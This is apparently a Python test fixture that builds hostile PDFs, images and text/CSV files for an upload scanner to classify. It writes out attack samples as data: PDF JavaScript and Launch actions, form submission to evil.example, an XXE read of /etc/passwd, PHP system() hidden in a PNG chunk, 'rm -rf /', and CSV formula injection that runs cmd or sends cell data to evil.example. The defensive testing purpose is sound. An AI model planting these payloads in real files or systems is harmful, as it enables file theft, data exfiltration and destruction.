"""Hostile PDFs, pictures and texts; `hostile` has the Office files and all of them together."""

import zipfile
from io import BytesIO
from struct import pack
from zlib import compress

from app.core.uploads.kinds import Code
from tests.support.uploads import CSV, chunk, jpeg, pdf, png, segment, stream

EXE = b"MZ\x90\x00" + b"\0" * 200
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>'


def a_zip(names: dict[str, bytes], comment: bytes = b"") -> bytes:
    held = BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in names.items():
            archive.writestr(name, content)
        archive.comment = comment
    return held.getvalue()


def _patched(content: bytes, old: bytes, new: bytes) -> bytes:
    assert old in content
    assert len(old) == len(new)
    return content.replace(old, new)


def _pdf_object_stream() -> bytes:
    """The script's action lies packed in an object stream, where no search of the bytes finds it."""
    action = b"<</Type/Action/S/JavaScript/JS(app.alert\\(1\\))>>"
    packed = compress(b"150 0 " + action)
    head = b"%PDF-1.5\n"
    bodies = {
        1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 150 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
        100: stream(packed, "/Type/ObjStm/N 1/First 6/Filter/FlateDecode"),
    }
    out, rows = bytearray(head), {}
    for number, body in bodies.items():
        rows[number] = pack(">BIH", 1, len(out), 0)
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    at = len(out)
    rows |= {150: pack(">BIH", 2, 100, 0), 200: pack(">BIH", 1, at, 0)}
    index = " ".join(f"{number} 1" for number in rows)
    table = stream(b"".join(rows.values()), f"/Type/XRef/Size 201/W[1 4 2]/Index[{index}]/Root 1 0 R")
    return bytes(out + b"200 0 obj\n" + table + f"\nendobj\nstartxref\n{at}\n%%EOF\n".encode())


def _pdf_attached() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(BytesIO(pdf())))
    writer.add_attachment("run.exe", EXE)
    held = BytesIO()
    writer.write(held)
    return held.getvalue()


def _pdf_encrypted() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(BytesIO(pdf())))
    writer.encrypt("secret", algorithm="RC4-128")
    held = BytesIO()
    writer.write(held)
    return held.getvalue()


def _action(kind: str, more: str = "") -> bytes:
    return pdf(catalog="/OpenAction 100 0 R", objects=(f"<</Type/Action/S/{kind}{more}>>",))


def pdfs() -> dict[str, tuple[bytes, Code]]:
    return {
        "javascript.pdf": (_action("JavaScript", "/JS(app.alert\\(1\\))"), Code.script),
        "escaped.pdf": (_action("J#61vaScript", "/J#53(app.alert\\(1\\))"), Code.script),
        "short.pdf": (pdf(catalog="/AA<</WC<</JS(1)>>>>"), Code.script),
        "launch.pdf": (_action("Launch", "/F(calc.exe)"), Code.script),
        "remote.pdf": (_action("GoToR", "/F(\\\\\\\\evil\\\\share)"), Code.script),
        "submit.pdf": (_action("SubmitForm", "/F(https://evil.example)"), Code.script),
        "xfa.pdf": (pdf(catalog="/AcroForm<</XFA 100 0 R>>", objects=(stream(b"<xdp/>"),)), Code.script),
        "rich.pdf": (pdf(objects=("<</Type/Annot/Subtype/RichMedia>>",)), Code.script),
        "packed-script.pdf": (_pdf_object_stream(), Code.script),
        "attached.pdf": (_pdf_attached(), Code.attachment),
        "file-note.pdf": (pdf(objects=("<</Type/Annot/Subtype/FileAttachment>>",)), Code.attachment),
        "password.pdf": (_pdf_encrypted(), Code.protected),
        "zip-behind.pdf": (pdf() + a_zip({"a.js": b"1"}), Code.hidden),
        "zip-inside.pdf": (pdf() + a_zip({"a.js": b"1"}, b"%%EOF"), Code.hidden),
        "html-behind.pdf": (pdf() + HTML, Code.hidden),
        "cut.pdf": (pdf()[:-40], Code.damaged),
        "header-only.pdf": (b"%PDF-1.7\n%%EOF\n", Code.damaged),
    }


def pictures() -> dict[str, tuple[bytes, Code]]:
    return {
        "html-behind.png": (png() + HTML, Code.hidden),
        "zip-behind.png": (png() + a_zip({"a.js": b"1"}), Code.hidden),
        "php-inside.png": (png(2, 2, chunk(b"tEXt", b"Comment\0<?php system(1);")), Code.hidden),
        "script-inside.png": (png(2, 2, chunk(b"iTXt", b"XML\0\0\0\0\0<script>1</script>")), Code.hidden),
        "sum.png": (_patched(png(), b"IEND\xae", b"IEND\xaf"), Code.damaged),
        "bomb.png": (png(60_000, 60_000), Code.pixels),
        "html-inside.jpg": (jpeg(segment(0xFE, HTML)), Code.hidden),
        "zip-behind.jpg": (jpeg() + a_zip({"a.js": b"1"}), Code.hidden),
        "html-behind.jpg": (jpeg() + HTML, Code.hidden),
        "exe-behind.jpg": (jpeg() + EXE, Code.hidden),
        "bomb.jpg": (jpeg(width=65_000, height=65_000), Code.pixels),
        "cut.jpg": (jpeg()[:-2], Code.damaged),
    }


def texts() -> dict[str, tuple[bytes, Code]]:
    return {
        "html.txt": (HTML, Code.markup),
        "html.csv": (b"a,b\n1,<script>alert(1)</script>\n", Code.markup),
        "svg.txt": (SVG, Code.markup),
        "xml.txt": (XXE.encode(), Code.markup),
        "marked-html.txt": (b"\xef\xbb\xbf  " + HTML, Code.markup),
        "utf16-html.txt": (HTML.decode().encode("utf-16"), Code.not_text),
        "binary.csv": (bytes(range(256)), Code.not_text),
        "exe.txt": (EXE, Code.content),
        "shell.txt": (b"#!/bin/sh\nrm -rf /\n", Code.content),
        "pdf.txt": (pdf(), Code.content),
        "command.csv": (CSV + b"=cmd|'/c calc'!A0,1,2\n", Code.formula),
        "web.csv": (CSV + b'"=WEBSERVICE(""https://evil.example"")",1\n', Code.formula),
        "plus.csv": (CSV + b"1,+cmd|'/c calc'!A0\n", Code.formula),
        "at.csv": (CSV + b"@SUM(1+1)*cmd|'/c calc'!A0\n", Code.formula),
        "link.csv": (CSV + b'a,=HYPERLINK("https://evil.example?x="&A1)\n', Code.formula),
    }
